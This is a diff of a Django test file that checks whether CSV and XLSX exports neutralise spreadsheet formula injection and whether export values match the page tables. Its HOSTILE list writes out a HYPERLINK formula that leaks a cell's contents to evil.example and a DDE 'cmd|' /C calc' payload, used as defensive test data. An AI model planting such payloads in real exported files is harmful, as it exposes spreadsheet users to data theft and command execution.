@@ -1,28 +1,38 @@
 import csv
 import datetime as dt
+import functools
 import io
 from decimal import Decimal
+from unittest import mock
 
 import openpyxl
 import pytest
+from django.http import FileResponse, StreamingHttpResponse
 from django.urls import reverse
+from django.utils.functional import Promise
 
-from formations.exports import neutralise
-from formations.models import Formation, Funder, Structure
+from formations import exporting
+from formations.models import Formation, Funder, Structure, User
 from tests.factories import (
+    EnrolmentFactory,
     FormationFactory,
     FunderFactory,
     ParticipantFactory,
     ProgrammeFactory,
+    SlotFactory,
     StructureFactory,
+    TrainingSessionFactory,
+    UserFactory,
 )
+from tests.factories.planning import attend
 
 pytestmark = pytest.mark.django_db
 
 
 def _csv(response):
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    content = response.content.decode("utf-8")
+    assert isinstance(response, StreamingHttpResponse), "CSV rows are streamed"
+    content = response.getvalue().decode("utf-8")
     assert content.startswith("\ufeff"), "a BOM lets a French Excel read UTF-8"
     return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))
 
@@ -31,7 +41,8 @@ def _xlsx(response):
     assert response["Content-Type"] == (
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     )
-    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    assert isinstance(response, FileResponse), "XLSX is written to a file, then sent"
+    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
     return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]
 
 
@@ -215,22 +226,171 @@ def test_formula_cells_are_neutralised(coordinator_client):
     assert row[0] == '\'=HYPERLINK("http://evil")'
     assert row[4] == "'@SUM(A1)"
     assert row[3] == "+33 6 12 34 56 78"
+    sheet, xrows = _xlsx(
+        coordinator_client.get(reverse("formations:participant_list") + "?_export=xlsx")
+    )
+    # A text cell shows the formula as typed, and Excel's quote prefix keeps it text.
+    assert xrows[1][0] == '=HYPERLINK("http://evil")'
+    assert sheet.cell(row=2, column=1).data_type == "s"
+    assert sheet.cell(row=2, column=1).quotePrefix
+
+
+def test_phone_numbers_are_not_prefixed(coordinator_client):
+    ParticipantFactory(last_name="Madi", phone="+262639123456")
+    ParticipantFactory(last_name="Nguyen", phone="+262 639 12 34 56")
+    _, *rows = _csv(coordinator_client.get(reverse("formations:participant_list") + "?_export=csv"))
+    assert [row[3] for row in rows] == ["+262639123456", "+262 639 12 34 56"]
     _, xrows = _xlsx(
         coordinator_client.get(reverse("formations:participant_list") + "?_export=xlsx")
     )
-    assert xrows[1][0] == '\'=HYPERLINK("http://evil")'
+    assert [row[3] for row in xrows[1:]] == ["+262639123456", "+262 639 12 34 56"]
 
 
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        ("=1+1", "'=1+1"),
-        ("-2", "-2"),
-        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
-        ("Awa", "Awa"),
-        (None, None),
-        (3, 3),
-    ],
-)
-def test_neutralise(value, expected):
-    assert neutralise(value) == expected
+# A formula in every form a spreadsheet would run: « = », « + », « - », « @ », a tab or a
+# carriage return first.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez")',
+    "+1+1",
+    "-1-1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _hostile_programmes():
+    for value in HOSTILE:
+        ProgrammeFactory(title=value)
+
+
+def _hostile_formations():
+    for value in HOSTILE:
+        FormationFactory(title=value)
+
+
+def _hostile_structures():
+    for value in HOSTILE:
+        StructureFactory(name=value)
+
+
+def _hostile_participants():
+    for value in HOSTILE:
+        ParticipantFactory(last_name=value, job_title=value)
+
+
+def _hostile_funders():
+    for value in HOSTILE:
+        FunderFactory(name=value, kind=Funder.Kind.CAF)
+
+
+def _hostile_accounts():
+    for value in HOSTILE:
+        UserFactory(role=User.Role.TRAINER, username=value)
+
+
+def _hostile_sessions():
+    for index, value in enumerate(HOSTILE):
+        TrainingSessionFactory(code=f"S{index}", place=value)
+
+
+EVERY_LIST = {
+    "formations:programme_list": (_hostile_programmes, "Intitulé"),
+    "formations:formation_list": (_hostile_formations, "Intitulé"),
+    "formations:structure_list": (_hostile_structures, "Nom"),
+    "formations:participant_list": (_hostile_participants, "Nom"),
+    "formations:funder_list": (_hostile_funders, "Nom"),
+    "formations:account_list": (_hostile_accounts, "Nom d’utilisateur"),
+    "sessions:session_list": (_hostile_sessions, "Lieu"),
+}
+
+
+def _same_text(cell: str, value: str) -> bool:
+    # XML reads a carriage return back as a line feed.
+    return cell.replace("\n", "\r") == value
+
+
+@pytest.mark.parametrize("url_name", list(EVERY_LIST))
+def test_every_list_neutralises_formulas_in_csv(coordinator_client, url_name):
+    make, header = EVERY_LIST[url_name]
+    make()
+    headers, *rows = _csv(coordinator_client.get(reverse(url_name) + "?_export=csv"))
+    cells = [row[headers.index(header)] for row in rows]
+    for value in HOSTILE:
+        matching = [cell for cell in cells if _same_text(cell, "'" + value)]
+        assert matching, f"{value!r} not neutralised in {cells}"
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("url_name", list(EVERY_LIST))
+def test_every_list_writes_formulas_as_text_in_xlsx(coordinator_client, url_name):
+    make, header = EVERY_LIST[url_name]
+    make()
+    sheet, rows = _xlsx(coordinator_client.get(reverse(url_name) + "?_export=xlsx"))
+    column = rows[0].index(header) + 1
+    cells = [sheet.cell(row=index, column=column) for index in range(2, len(rows) + 1)]
+    for value in HOSTILE:
+        matching = [cell for cell in cells if _same_text(cell.value, value)]
+        assert matching, f"{value!r} missing from {[cell.value for cell in cells]}"
+        assert all(cell.data_type == "s" and cell.quotePrefix for cell in matching)
+    assert not [cell for cell in cells if cell.data_type == "f"]
+
+
+# --- The exporters' fast values are the tables' values ---------------------------------
+
+
+def _varied_rows():
+    """Records of every list, with full and empty values."""
+    feder = FunderFactory()
+    FunderFactory(name="Région", kind=Funder.Kind.REGION, publicity_sentence="")
+    programme = ProgrammeFactory()
+    programme.funders.add(feder)
+    ProgrammeFactory(carrier="")
+    mayotte = StructureFactory(kind=Structure.Kind.CCAS, territory="Mayotte")
+    StructureFactory(kind=Structure.Kind.OTHER, kind_label="Foyer rural", commune="")
+    ParticipantFactory(
+        structure=mayotte,
+        phone="+262639123456",
+        job_title="Conseillère",
+        post_taken_on=dt.date(2020, 9, 1),
+        contact_consent=True,
+    )
+    ParticipantFactory(structure=mayotte, email="", phone="", job_title="")
+    formation = FormationFactory(programme=programme, amount=Decimal("25000.50"))
+    FormationFactory(pricing_mode=Formation.PricingMode.PER_DAY, unit_price=Decimal("900"))
+    UserFactory(role=User.Role.FUNDER_AUDITOR).funders.add(feder)
+    UserFactory(role=User.Role.STRUCTURE_REFERENT, structure=mayotte, is_active=False)
+    UserFactory(role=User.Role.TRAINER, last_login=dt.datetime(2021, 10, 4, 7, 30, tzinfo=dt.UTC))
+    session = TrainingSessionFactory(formation=formation, place="Mamoudzou")
+    slot = SlotFactory(session=session)
+    attend(EnrolmentFactory(session=session), slot)
+    TrainingSessionFactory(formation=formation, place="")
+
+
+def _normalised(value):
+    # The table gives None for an empty cell where a record gives "": both write nothing.
+    value = "" if value is None else value
+    return str(value) if isinstance(value, Promise) else value
+
+
+@pytest.mark.parametrize("url_name", list(EVERY_LIST))
+def test_export_values_are_those_of_the_page_table(coordinator_client, url_name):
+    _varied_rows()
+    captured = []
+
+    def capture(exporter, export_format):
+        captured.append(exporter)
+        return exporting.csv_response(exporter)
+
+    with mock.patch.object(exporting, "export_response", capture):
+        coordinator_client.get(reverse(url_name) + "?_export=csv").getvalue()
+    (exporter,) = captured
+    columns = exporter.get_columns()
+    assert all(not isinstance(column.value, functools.partial) for column in columns), (
+        "every column has its fast value"
+    )
+    records = list(exporter.iterate_records())
+    assert len(records) >= 2
+    for record in records:
+        fast = [_normalised(column.value(record)) for column in columns]
+        table = [_normalised(exporter.table_value(record, column.name)) for column in columns]
+        assert fast == table
